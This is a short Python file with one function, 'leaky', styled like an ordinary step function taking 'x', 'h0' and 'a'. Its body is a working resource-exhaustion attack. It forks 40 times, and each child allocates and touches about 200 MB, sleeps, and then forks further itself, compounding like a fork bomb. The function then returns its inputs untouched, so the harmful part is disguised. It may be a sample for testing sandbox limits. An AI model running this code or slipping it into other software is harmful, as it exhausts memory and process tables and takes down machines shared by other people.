import os
import time


def leaky(x, h0, a):
    for _ in range(40):
        if os.fork() == 0:
            held = bytearray(200_000_000)
            for i in range(0, len(held), 4096):
                held[i] = 1
            time.sleep(60)
    time.sleep(60)
    return x, h0
